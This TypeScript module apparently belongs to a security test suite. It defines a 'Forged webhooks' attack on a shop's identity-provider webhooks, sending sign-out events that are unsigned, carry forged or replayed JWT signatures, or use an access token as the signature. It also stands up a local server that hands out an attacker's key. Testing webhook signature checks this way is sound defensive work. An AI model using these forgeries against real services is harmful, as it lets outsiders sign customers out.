/** Webhooks that the provider never sent. */
import type { Attack } from "../attack.ts";
import { claimsIn, forgeries, ownKey, publishedKey } from "../json-web-token.ts";
import { localServer } from "../local-server.ts";
import { ada, grace, home, showsVictimsCart, victim } from "../people.ts";
import { accessTokenOf, applicationIds, keylessApplication } from "../provider.ts";
import { minute } from "../schedule.ts";
import { families, theftFrom } from "../theft.ts";
import { bodyHash, endingEvents, sendWebhook, withWebhooksOverheard } from "../webhooks.ts";

export const attack: Attack = {
  title: "Forged webhooks",
  story:
    "The attacker sends the Store webhooks in the provider's name that end the victim's sign-in, all of the victim's, everybody's: unsigned, with the signatures of the attack before, with the attacker's own access token in place of a signature, and with the genuine signature of a webhook that was about somebody else. Where one is believed, whoever can reach the shop signs its customers out.",
  source: "FusionAuth webhook signatures; RFC 8725 §2, §3.12; ASVS 9.1.1, 9.2.2; CWE-345, CWE-347",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["webhook-signature-not-checked"],
  async run(target) {
    const owner = await victim(target);
    const phone = await keylessApplication(target);
    const accessToken = await accessTokenOf(target, phone, grace);
    const published = await publishedKey(target);
    const [signInId = ""] = await families(target);
    // Whoever signed in less than a minute ago may have done so after the event.
    await target.pass(2 * minute);
    const theft = await theftFrom(target);
    const bodies = endingEvents({
      userId: ada.id,
      signInId,
      applicationId: applicationIds.store,
      at: target.now(),
    });
    const overheard = await withWebhooksOverheard(target, async (next) => {
      await accessTokenOf(target, phone, grace);
      return next("user.login.success");
    });
    const server = await localServer((_, response) =>
      response.end(JSON.stringify({ keys: [ownKey("attacker")] })),
    );
    const isOut = async (body: string, signature: string | null) => {
      await sendWebhook(target.origins.store, { body, signature });
      return !showsVictimsCart(await owner.get(home));
    };
    try {
      for (const [index, body] of bodies.entries()) {
        const claims = { ...claimsIn(overheard.signature), request_body_sha256: bodyHash(body) };
        const forging = { published, genuine: overheard.signature, claims, keyServer: server.origin };
        // One body is enough for all of these: what a signature is over does not depend on it.
        for (const { token } of index === 0 ? forgeries(forging) : [])
          await theft.attempt(() => isOut(body, token));
        for (const signature of [null, "", "x", overheard.signature, accessToken])
          await theft.attempt(() => isOut(body, signature));
      }
      await theft.attempt(async () => server.asked.length > 0);
    } finally {
      await server.close();
    }
    return theft.measured(owner);
  },
};
